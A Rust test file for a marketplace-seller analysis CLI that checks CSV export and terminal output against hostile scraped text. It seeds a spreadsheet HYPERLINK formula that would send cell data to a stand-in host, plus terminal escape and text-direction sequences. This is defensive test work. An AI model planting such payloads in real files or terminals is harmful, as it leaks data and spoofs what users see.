//! The analyst's first tools on a store filled by `soi run` on the demo marketplace, and on a
//! store holding hostile scraped text (formulas for spreadsheets, escapes for terminals).

use std::path::Path;

use soi_model::{Listing, Reason, Scored, Seller, Verdict};
use soi_sqlite::SqliteStore;
use soi_store::Store;

use crate::support::{free_port, run_demo, run_expect, soi};

const HYPERLINK: &str = "=HYPERLINK(\"http://x/?\"&A1,\"x\")";
const ESCAPES: &str = "Red\u{1b}[31m shop\u{202e}evil\u{1b}]0;pwned\u{7}";

/// `HOME/soi.db` with two flagged sellers: one named with a formula, one with terminal escapes.
fn hostile_store(home: &Path) {
    let scored = |sid: &str, lid: &str, name: &str| {
        let at = chrono::Utc::now();
        let seller = Seller {
            id: sid.into(),
            marketplace: "shopee".into(),
            name: Some(name.into()),
            country: Some("CN".into()),
            ..Default::default()
        };
        Scored {
            listing: Listing {
                id: lid.into(),
                marketplace: "shopee".into(),
                title: format!("{name} title\nRisk      0.00"),
                description: Some(format!("zalo 0900 {name}")),
                observed_at: Some(at),
                seller: Some(seller),
                ..Default::default()
            },
            verdict: Verdict {
                listing_id: lid.into(),
                marketplace: "shopee".into(),
                seller_id: Some(sid.into()),
                risk: 0.9,
                reasons: vec![Reason {
                    code: "off_platform_contact".into(),
                    message: "contact".into(),
                    field: "description".into(),
                    start: 0,
                    end: 9,
                    evidence: format!("-{name}"),
                    ..Default::default()
                }],
                model: "test".into(),
                scored_at: at,
                ..Default::default()
            },
        }
    };
    let rt = tokio::runtime::Runtime::new().expect("runtime");
    rt.block_on(async {
        let store = SqliteStore::open(&home.join("soi.db")).expect("store");
        store
            .put_scored(vec![
                scored("f1", "l1", HYPERLINK),
                scored("e1", "l2", ESCAPES),
            ])
            .await
            .expect("seeding");
    });
}

fn assert_clean(text: &str) {
    for bad in ['\u{1b}', '\u{202e}', '\u{7}'] {
        assert!(
            !text.contains(bad),
            "{bad:?} reached the terminal: {text:?}"
        );
    }
}

#[test]
fn hostile_text_is_neutralised_in_csv_and_cleaned_on_the_terminal() {
    let home = tempfile::tempdir().expect("tempdir");
    let h = home.path();
    hostile_store(h);

    let out = run_expect(soi(h).args(["sellers", "--format", "csv"]), 0);
    let mut r = csv::Reader::from_reader(&out.stdout[..]);
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("csv row")).collect();
    let f1 = rows.iter().find(|x| &x[1] == "f1").expect("seller f1");
    assert_eq!(&f1[2], format!("'{HYPERLINK}"), "{rows:?}");
    assert_eq!(&f1[12], format!("'-{HYPERLINK}"), "{rows:?}");

    let out = run_expect(soi(h).args(["sellers"]), 0);
    let table = String::from_utf8_lossy(&out.stdout);
    assert_clean(&table);
    assert!(table.contains("Red shopevil"), "{table}");

    let out = run_expect(soi(h).args(["listing", "l2"]), 0);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_clean(&text);
    assert!(text.contains("Red shopevil"), "{text}");
    assert_eq!(
        text.lines().filter(|l| l.starts_with("Risk ")).count(),
        1,
        "a title cannot forge a line: {text}"
    );

    let out = run_expect(soi(h).args(["listing", "l2", "--json"]), 0);
    let d: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(d["seller"]["name"], ESCAPES, "JSON stays exact: {d:#}");
}

#[test]
fn sellers_filters_formats_and_listing_evidence() {
    let home = tempfile::tempdir().expect("tempdir");
    run_demo(home.path(), free_port());
    let h = home.path();

    // Country filter: only the cross-border shop registered in China that poses as local.
    let out = run_expect(
        soi(h).args(["sellers", "--country", "CN", "--format", "json"]),
        0,
    );
    let cn: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let ids: Vec<&str> = cn
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|s| s["seller_id"].as_str())
        .collect();
    assert_eq!(ids, ["s09"], "{cn:#}");
    assert_eq!(cn[0]["cross_border"], true);

    // CSV: a header and one row per flagged seller, riskiest first.
    let out = run_expect(soi(h).args(["sellers", "--format", "csv"]), 0);
    let csv = String::from_utf8_lossy(&out.stdout);
    let rows: Vec<&str> = csv.lines().collect();
    assert!(
        rows[0].starts_with("marketplace,seller_id,name,country"),
        "{csv}"
    );
    assert!(rows.len() > 7, "header and at least 7 sellers: {csv}");
    let risks: Vec<f64> = rows[1..]
        .iter()
        .map(|r| {
            r.split(',')
                .nth(5)
                .and_then(|x| x.parse().ok())
                .expect("max_risk column")
        })
        .collect();
    assert!(
        risks.windows(2).all(|w| w[0] >= w[1]),
        "not sorted: {risks:?}"
    );

    // Filters that match nothing.
    let out = run_expect(soi(h).args(["sellers", "--marketplace", "nowhere"]), 0);
    assert!(String::from_utf8_lossy(&out.stdout).contains("No flagged sellers"));
    let out = run_expect(
        soi(h).args(["sellers", "--since", "2999-01-01", "--format", "json"]),
        0,
    );
    assert_eq!(
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap(),
        serde_json::json!([])
    );
    let out = run_expect(soi(h).args(["sellers", "--since", "yesterday"]), 2);
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a date"));

    // One listing: the verdict, the quoted evidence in context, the evidence hash.
    let out = run_expect(soi(h).args(["listing", "2001"]), 0);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("iPhone 15 Pro Max"), "{text}");
    assert!(text.contains("off_platform_contact"), "{text}");
    assert!(text.contains("«"), "evidence not marked: {text}");
    let sha = text
        .lines()
        .find_map(|l| l.strip_prefix("Evidence  sha256:"))
        .expect("evidence line");
    assert_eq!(sha.len(), 64, "{sha}");
    assert!(sha.chars().all(|c| c.is_ascii_hexdigit()), "{sha}");

    let out = run_expect(soi(h).args(["listing", "2001", "--json"]), 0);
    let d: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(d["listing"]["seller"]["id"], "s06");
    assert!(d["verdict"]["risk"].as_f64().unwrap_or(0.0) >= 0.5);

    let out = run_expect(soi(h).args(["listing", "no-such-id"]), 3);
    assert!(String::from_utf8_lossy(&out.stderr).contains("no listing `no-such-id`"));
}
